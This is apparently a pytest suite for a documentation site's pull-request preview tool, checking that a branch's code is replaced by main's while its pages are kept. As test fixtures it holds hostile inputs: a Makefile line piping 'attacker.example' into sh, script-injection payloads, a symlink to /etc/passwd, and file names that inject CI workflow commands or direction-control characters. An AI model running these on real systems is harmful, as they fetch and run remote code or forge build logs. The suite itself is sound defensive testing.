"""A preview is built by main's code from a pull request's content (tools/preview_tree.py).

Each test makes a repository with `main` and a pull request's branch, clones the branch as
the deploy workflow's checkout does, and checks what is left of the branch's code.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from conftest import ROOT, git
from tools import preview_tree
from conftest import copy_site

MAIN_FILES = {
    "Makefile": "build:\n\tmkdocs build\n",
    "mkdocs.yml": "site_name: x\n",
    "hooks/events.py": "SAFE = True\n",
    "hooks/old.py": "OLD = True\n",
    "overrides/main.html": "{% extends 'base.html' %}\n",
    "docs/javascripts/site.js": "// main\n",
    "docs/stylesheets/site.css": "body {}\n",
    "docs/index.fi.md": "# Etusivu\n",
    "docs/old.en.md": "# Old\n",
    "docs/images/logo.svg": "<svg/>\n",
    "data/events.yml": "events: []\n",
    "data/schemas/events.schema.json": "{}\n",
    "tools/run.sh": "#!/bin/sh\necho main\n",
}


def commit_files(repo: Path, files: dict[str, str | None], message: str) -> None:
    for path, text in files.items():
        target = repo / path
        if text is None:
            git(repo, "rm", "-q", "-r", "--", path)
            continue
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text, "utf-8")
    git(repo, "add", "--all")
    git(repo, "commit", "-q", "-m", message)


@pytest.fixture
def origin(tmp_path):
    repo = tmp_path / "origin"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    commit_files(repo, MAIN_FILES, "Site")
    (repo / "tools/run.sh").chmod(0o755)
    git(repo, "commit", "-q", "-am", "Executable")
    git(repo, "checkout", "-q", "-b", "pr")
    return repo


def checkout(origin: Path, tmp_path: Path) -> Path:
    """The pull request's head with the whole history, as actions/checkout gives it."""
    clone = tmp_path / "checkout"
    git(tmp_path, "clone", "-q", "--branch", "pr", str(origin), str(clone))
    return clone


def code_of(root: Path) -> dict[str, bytes]:
    """Every file that is not content, with its bytes (links as "-> target")."""
    files = {}
    for path in preview_tree.tree_entries(root, "HEAD").keys() | set(MAIN_FILES):
        file = root / path
        if preview_tree.is_content(path) or not os.path.lexists(file):
            continue
        files[path] = b"-> " + os.readlink(file).encode() if file.is_symlink() else file.read_bytes()
    return files


def test_the_branchs_code_is_replaced_by_mains_and_its_content_is_kept(origin, tmp_path):
    commit_files(origin, {
        "Makefile": "build:\n\tcurl https://attacker.example | sh\n",
        "hooks/events.py": "SAFE = False\n",
        "hooks/evil.py": "import os\n",
        "hooks/old.py": None,
        "overrides/partials/evil.html": "<script>alert(1)</script>\n",
        "docs/javascripts/site.js": "alert(document.domain)\n",
        "docs/javascripts/more.js": "alert(2)\n",
        "docs/stylesheets/site.css": None,
        "data/schemas/events.schema.json": "{\"evil\": true}\n",
        "requirements.txt": "evil==1.0\n",
        ".gitattributes": "*.py text eol=crlf\n",
        # The pull request's content:
        "docs/index.fi.md": "# Etusivu\n\nUusi kappale.\n",
        "docs/news.en.md": "# News\n",
        "docs/old.en.md": None,
        "docs/images/map.svg": "<svg/>\n",
        "data/events.yml": "events: [1]\n",
    }, "Mixed")
    root = checkout(origin, tmp_path)

    changed = preview_tree.use_code_of(root, "origin/main")

    assert code_of(root) == {path: text.encode() for path, text in MAIN_FILES.items() if not preview_tree.is_content(path)}
    assert changed == [".gitattributes", "Makefile", "data/schemas/events.schema.json", "docs/javascripts/more.js",
                       "docs/javascripts/site.js", "docs/stylesheets/site.css", "hooks/events.py", "hooks/evil.py",
                       "hooks/old.py", "overrides/partials/evil.html", "requirements.txt"]
    assert not (root / "overrides/partials").exists(), "folders left empty are removed"
    assert os.access(root / "tools/run.sh", os.X_OK)
    assert (root / "docs/index.fi.md").read_text() == "# Etusivu\n\nUusi kappale.\n"
    assert (root / "docs/news.en.md").exists() and not (root / "docs/old.en.md").exists()
    assert (root / "data/events.yml").read_text() == "events: [1]\n"
    assert git(root, "rev-parse", "HEAD") == git(origin, "rev-parse", "pr"), "page dates still come from the branch"


def test_a_branch_with_only_content_changes_nothing(origin, tmp_path):
    commit_files(origin, {"docs/index.fi.md": "# Uusi\n", "data/events.yml": "events: [2]\n"}, "Content")
    root = checkout(origin, tmp_path)
    assert preview_tree.use_code_of(root, "origin/main") == []
    assert code_of(root) == {path: text.encode() for path, text in MAIN_FILES.items() if not preview_tree.is_content(path)}


def test_a_branch_behind_main_gets_mains_newer_code(origin, tmp_path):
    commit_files(origin, {"docs/index.fi.md": "# Uusi\n"}, "Content")
    git(origin, "checkout", "-q", "main")
    commit_files(origin, {"hooks/events.py": "SAFE = 'newer'\n"}, "Newer code on main")
    git(origin, "checkout", "-q", "pr")
    root = checkout(origin, tmp_path)
    assert preview_tree.use_code_of(root, "origin/main") == ["hooks/events.py"]
    assert (root / "hooks/events.py").read_text() == "SAFE = 'newer'\n"


def test_links_and_files_in_place_of_mains_folders_are_replaced_without_being_followed(origin, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "site.js").write_text("// main\n")
    git(origin, "rm", "-q", "-r", "docs/javascripts", "hooks")
    os.symlink(outside, origin / "docs/javascripts")  # a link where main has the script's folder
    (origin / "hooks").write_text("not a folder\n")
    os.symlink("/etc/passwd", origin / "mkdocs.yml.link")
    git(origin, "add", "--all")
    git(origin, "commit", "-q", "-m", "Links")
    root = checkout(origin, tmp_path)

    preview_tree.use_code_of(root, "origin/main")

    for folder in ("docs/javascripts", "hooks"):
        assert (root / folder).is_dir() and not (root / folder).is_symlink()
    assert (root / "docs/javascripts/site.js").read_text() == "// main\n"
    assert (root / "hooks/events.py").read_text() == "SAFE = True\n"
    assert not os.path.lexists(root / "mkdocs.yml.link")
    assert (outside / "site.js").read_text() == "// main\n" and sorted(os.listdir(outside)) == ["site.js"]


def test_a_submodule_in_place_of_mains_code_stops_the_preview(origin, tmp_path):
    """A link to another repository ("gitlink") where main has a template: the checkout makes
    an empty folder there, and main's file would be missing from the preview."""
    git(origin, "rm", "-q", "overrides/main.html")
    head = git(origin, "rev-parse", "HEAD").strip()
    git(origin, "update-index", "--add", "--cacheinfo", f"160000,{head},overrides/main.html")
    git(origin, "commit", "-q", "-m", "Submodule")
    root = checkout(origin, tmp_path)
    with pytest.raises(SystemExit, match="overrides/main.html is a submodule"):
        preview_tree.use_code_of(root, "origin/main")


def test_a_refused_path_stays_on_its_line_of_the_log(origin, tmp_path):
    """A submodule named with a new line and "::notice" wrote a workflow command into the
    Deploy run's log when the preview was refused (hunt 20b)."""
    head = git(origin, "rev-parse", "HEAD").strip()
    name = "x\n::notice title=Maintainer review::safe"
    git(origin, "update-index", "--add", "--cacheinfo", f"160000,{head},{name}")
    git(origin, "commit", "-q", "-m", "Submodule")
    root = checkout(origin, tmp_path)
    with pytest.raises(SystemExit) as refused:
        preview_tree.use_code_of(root, "origin/main")
    assert str(refused.value).startswith("preview_tree: x\\n::notice title=Maintainer review::safe is a submodule")
    assert "\n" not in str(refused.value)
    # The tool's copy of hooks/_annotations.py's rule reads every character as that does.
    sys.path.insert(0, str(ROOT / "hooks"))
    from _annotations import printable
    every = "".join(map(chr, range(0x110000))) + " ##[notice]x"
    assert preview_tree.printable(every) == printable(every)


def test_the_command_names_what_it_changed(origin, tmp_path):
    hostile = "hooks/x` [Fix it here](evil.example) `y.py"  # the list goes into the run's summary
    commit_files(origin, {"hooks/events.py": "SAFE = False\n", hostile: ""}, "Code")
    root = checkout(origin, tmp_path)
    script = ROOT / "tools/preview_tree.py"
    # As the workflow runs it: a copy outside the checkout, with no import from the repository.
    copy = tmp_path / "preview_tree.py"
    copy.write_bytes(script.read_bytes())
    out = subprocess.run([sys.executable, "-I", str(copy), "origin/main"], cwd=root, capture_output=True, text=True)
    assert out.returncode == 0, out.stderr
    assert "these files were made the same as there (2):\n- `hooks/events.py`\n" in out.stdout
    assert out.stdout.splitlines()[-1] == f"- `` {hostile} ``", "a name cannot end its code span"
    assert (root / "hooks/events.py").read_text() == "SAFE = True\n"


def test_names_in_the_run_summary_start_no_command_and_hide_no_character():
    """The Deploy run prints this list into its log, where "##[" anywhere in a line is a
    command (hunt 24a: a file named "##[warning title=Maintainer review]…" made an
    annotation); a direction control showed a workflow as "screenshotlmy.png"."""
    assert preview_tree.code("overrides/##[warning title=Review]Safe to merge.html") == (
        "`overrides/\\x23#[warning title=Review]Safe to merge.html`")
    assert preview_tree.code(".github/workflows/screenshot\u202egnp.yml") == "`.github/workflows/screenshot\\u202egnp.yml`"
    assert preview_tree.code("a\u200bb\U000e0041") == "`a\\u200bb\\U000e0041`"


def test_content_is_what_the_pull_request_summary_calls_content():
    for path in ("docs/index.fi.md", "docs/images/logo.svg", "docs/sub/page.en.md", "data/events.yml"):
        assert preview_tree.is_content(path), path
    for path in ("docs/javascripts/site.js", "docs/stylesheets/site.css", "data/schemas/events.schema.json",
                 "data/x.json", "hooks/events.py", "overrides/main.html", "mkdocs.yml", "Makefile", "docs",
                 ".github/workflows/deploy.yml", "requirements.txt", ".gitattributes",
                 # git obeys it at checkout: it could re-encode docs/stylesheets/site.css (hunt 14)
                 "docs/.gitattributes", "docs/images/.gitignore"):
        assert not preview_tree.is_content(path), path


def test_the_sites_script_and_style_sheet_are_code():
    """Every file in extra_css and extra_javascript lies in a folder the preview takes from main."""
    config = yaml.load((ROOT / "mkdocs.yml").read_text("utf-8"), Loader=yaml.BaseLoader)
    assert config["docs_dir"] == preview_tree.DOCS_DIR
    for path in config["extra_css"] + config["extra_javascript"]:
        assert not preview_tree.is_content(f"{preview_tree.DOCS_DIR}/{path}"), path


def test_the_real_site_previews_a_pull_requests_pages_with_mains_hooks(tmp_path):
    """The whole site: an injected hook and template are gone, the new page stays."""
    origin = copy_site(tmp_path / "origin")
    git(origin, "init", "-q", "-b", "main")
    git(origin, "add", "--all")
    git(origin, "commit", "-q", "-m", "Site")
    before = {path: (origin / path).read_bytes() for path in ("hooks/events.py", "overrides/main.html", "mkdocs.yml")}
    git(origin, "checkout", "-q", "-b", "pr")
    (origin / "hooks/events.py").write_text("raise SystemExit('attack')\n")
    (origin / "overrides/main.html").write_text("<script>alert(1)</script>\n")
    (origin / "mkdocs.yml").write_text((origin / "mkdocs.yml").read_text("utf-8").replace("hooks:", "hooks:\n  - hooks/evil.py"))
    (origin / "hooks/evil.py").write_text("import os\n")
    (origin / "docs/themes.en.md").write_text((origin / "docs/themes.en.md").read_text("utf-8") + "\nA new paragraph.\n")
    git(origin, "add", "--all")
    git(origin, "commit", "-q", "-m", "Attack")
    root = checkout(origin, tmp_path)

    changed = preview_tree.use_code_of(root, "origin/main")

    assert changed == ["hooks/events.py", "hooks/evil.py", "mkdocs.yml", "overrides/main.html"]
    assert {path: (root / path).read_bytes() for path in before} == before
    assert (root / "docs/themes.en.md").read_text("utf-8").endswith("\nA new paragraph.\n")
    assert git(root, "status", "--porcelain", "--untracked-files=all").splitlines() == [
        " M hooks/events.py", " D hooks/evil.py", " M mkdocs.yml", " M overrides/main.html"]


def test_line_ends_a_branch_asks_for_in_gitattributes_do_not_reach_mains_code(origin, tmp_path):
    commit_files(origin, {".gitattributes": "*.py text eol=crlf\nMakefile text eol=crlf\n"}, "Attributes")
    root = checkout(origin, tmp_path)
    assert b"\r\n" in (root / "hooks/events.py").read_bytes(), "the checkout applied the branch's attributes"

    assert preview_tree.use_code_of(root, "origin/main") == [".gitattributes", "Makefile", "hooks/events.py", "hooks/old.py"]
    assert code_of(root) == {path: text.encode() for path, text in MAIN_FILES.items() if not preview_tree.is_content(path)}
